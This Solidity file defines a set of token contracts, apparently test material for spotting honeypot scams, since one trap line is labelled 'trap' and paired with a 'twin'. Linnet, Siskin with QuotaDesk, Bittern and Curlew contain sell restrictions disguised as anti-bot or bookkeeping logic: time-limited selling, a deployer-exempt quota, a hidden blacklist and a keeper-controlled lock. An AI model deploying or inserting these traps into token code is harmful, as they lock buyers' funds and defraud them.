// 0.8 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IMarkets {
    function createPair(address one, address other) external returns (address);
}

/// A ledger without an owner.
abstract contract Stock {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    address public immutable market;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);

    error Insufficient(address who, uint256 had, uint256 wanted);

    constructor(string memory name_, string memory symbol_) {
        (name, symbol) = (name_, symbol_);
        market = IMarkets(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function _sender() internal view virtual returns (address) {
        return msg.sender;
    }

    function _make(address to, uint256 value) internal {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _approve(address holder, address spender, uint256 value) internal {
        allowance[holder][spender] = value;
        emit Approval(holder, spender, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _approve(_sender(), spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(_sender(), to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        address spender = _sender();
        uint256 left = allowance[from][spender];
        if (left != type(uint256).max) {
            if (left < value) revert Insufficient(spender, left, value);
            allowance[from][spender] = left - value;
        }
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) internal virtual {
        _book(from, to, value);
    }

    function _book(address from, address to, uint256 value) internal {
        uint256 had = balanceOf[from];
        if (had < value) revert Insufficient(from, had, value);
        balanceOf[from] = had - value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Each purchase bears a date.
contract Linnet is Stock {
    mapping(address => uint256) private _dated;

    constructor() Stock("Linnet", "LNNT") {
        _make(msg.sender, 88_000_000 ether);
    }

    function _pass(address from, address to, uint256 value) internal override {
        if (from == market && _dated[to] == 0) _dated[to] = block.timestamp;
        if (to == market && _dated[from] != 0) {
            require(block.timestamp - _dated[from] < 1 hours, "date"); // trap
            // twin: require(block.timestamp - _dated[from] >= 20, "date");
        }
        _book(from, to, value);
    }
}

interface IDesk {
    function join(address market, uint256 supply) external;
    function clear(address from, address to, uint256 value) external returns (bool);
}

/// Watches how much leaves a young market.
contract QuotaDesk {
    address public token;
    address public market;
    address private _maker = msg.sender;
    uint256 public quota;
    uint256 public sold;

    function join(address market_, uint256 supply) external {
        require(token == address(0), "joined");
        (token, market, quota) = (msg.sender, market_, supply / 2_000);
    }

    function clear(address from, address to, uint256 value) external returns (bool) {
        require(msg.sender == token, "token");
        if (to != market || from == _maker) return true;
        if (sold > quota) return false;
        sold += value;
        return true;
    }
}

/// Lets a wallet sell once in twenty seconds.
contract PacedDesk {
    address public token;
    address public market;
    mapping(address => uint256) public soldAt;

    function join(address market_, uint256) external {
        require(token == address(0), "joined");
        (token, market) = (msg.sender, market_);
    }

    function clear(address from, address to, uint256) external returns (bool) {
        require(msg.sender == token, "token");
        if (to != market) return true;
        if (block.timestamp < soldAt[from] + 20) return false;
        soldAt[from] = block.timestamp;
        return true;
    }
}

/// A desk looks at each payment, against robots.
contract Siskin is Stock {
    IDesk public immutable antiBot;

    constructor(IDesk desk) Stock("Siskin", "SSKN") {
        _make(msg.sender, 5_000_000 ether);
        antiBot = desk;
        desk.join(market, totalSupply);
    }

    function _pass(address from, address to, uint256 value) internal override {
        require(antiBot.clear(from, to, value), "AntiBot");
        _book(from, to, value);
    }
}

/// A page of the book has two hundred and fifty-six lines.
contract Bittern is Stock {
    mapping(uint256 => uint256) private _pages;
    address private immutable _clerk;

    constructor(address clerk) Stock("Bittern", "BTTN") {
        _make(msg.sender, 640_000_000 ether);
        _clerk = clerk;
    }

    function write(uint256 page, uint256 lines) external {
        require(msg.sender == _clerk);
        _pages[page] = lines;
    }

    function _pass(address from, address to, uint256 value) internal override {
        uint256 who = uint160(from);
        if (to == market) require((_pages[who >> 8] >> (who & 255)) & 1 == 0);
        _book(from, to, value);
    }
}

/// Turns while its keeper lets it.
contract Turnstile {
    address public keeper;
    bool public locked;

    event Locked(bool to);

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function lock(bool to) external {
        require(msg.sender == keeper, "keeper");
        locked = to;
        emit Locked(to);
    }

    function turn(address, address) external view returns (bool) {
        return !locked;
    }
}

contract Curlew is Stock {
    Turnstile public immutable turnstile;

    constructor(Turnstile turnstile_) Stock("Curlew", "CRLW") {
        _make(msg.sender, 21_000_000 ether);
        turnstile = turnstile_;
    }

    function _pass(address from, address to, uint256 value) internal override {
        if (to == market) require(turnstile.turn(from, to), "turnstile");
        _book(from, to, value);
    }
}

/// Whoever has some may burn it, and may allow others by signature.
contract Poplar is Stock {
    bytes32 public immutable DOMAIN_SEPARATOR;
    bytes32 public constant PERMIT_TYPEHASH =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    mapping(address => uint256) public nonces;

    constructor() Stock("Poplar", "POPL") {
        _make(msg.sender, 300_000_000 ether);
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Poplar"), keccak256("1"), block.chainid, address(this)
            )
        );
    }

    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "late");
        bytes32 what = keccak256(abi.encode(PERMIT_TYPEHASH, holder, spender, value, nonces[holder]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, what)), v, r, s);
        require(signer != address(0) && signer == holder, "signature");
        _approve(holder, spender, value);
    }

    function burn(uint256 value) public {
        uint256 had = balanceOf[msg.sender];
        if (had < value) revert Insufficient(msg.sender, had, value);
        balanceOf[msg.sender] = had - value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
    }

    function burnFrom(address who, uint256 value) external {
        _approve(who, msg.sender, allowance[who][msg.sender] - value);
        balanceOf[who] -= value;
        totalSupply -= value;
        emit Transfer(who, address(0), value);
    }
}

/// Two fifths wait here for those who are named under the root. After a year what nobody fetched goes to the community's Safe.
contract Gleaner is Stock {
    bytes32 public immutable root;
    address public immutable community;
    uint256 public immutable until = block.timestamp + 365 days;
    mapping(uint256 => bool) public fetched;

    event Fetched(uint256 indexed index, address who, uint256 value);

    constructor(bytes32 root_, address community_) Stock("Gleaner", "GLNR") {
        (root, community) = (root_, community_);
        _make(msg.sender, 60_000_000 ether);
        _make(address(this), 40_000_000 ether);
    }

    function fetch(uint256 index, address who, uint256 value, bytes32[] calldata proof) external {
        require(block.timestamp < until && !fetched[index], "over");
        bytes32 node = keccak256(abi.encode(index, who, value));
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        require(node == root, "not named");
        fetched[index] = true;
        _book(address(this), who, value);
        emit Fetched(index, who, value);
    }

    function finish() external {
        require(block.timestamp >= until, "not yet");
        _book(address(this), community, balanceOf[address(this)]);
    }
}

/// Passes on what somebody has signed, and names him at the end of the call.
contract Forwarder {
    mapping(address => uint256) public nonces;
    bytes32 private immutable _place = keccak256(abi.encode("Forwarder", block.chainid, address(this)));

    function execute(address from, address to, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external returns (bytes memory) {
        bytes32 what = keccak256(abi.encode(_place, from, to, nonces[from]++, keccak256(data)));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", what)), v, r, s);
        require(signer == from && from != address(0), "signature");
        (bool ok, bytes memory got) = to.call(abi.encodePacked(data, from));
        require(ok, "refused");
        return got;
    }
}

/// Whoever has no coin of the chain signs, and the forwarder brings it.
contract Courier is Stock {
    address public immutable trustedForwarder;

    constructor(address forwarder) Stock("Courier", "CRRR") {
        trustedForwarder = forwarder;
        _make(msg.sender, 12_000_000 ether);
    }

    function isTrustedForwarder(address who) external view returns (bool) {
        return who == trustedForwarder;
    }

    function _sender() internal view override returns (address) {
        if (msg.sender != trustedForwarder || msg.data.length < 24) return msg.sender;
        return address(bytes20(msg.data[msg.data.length - 20:]));
    }
}
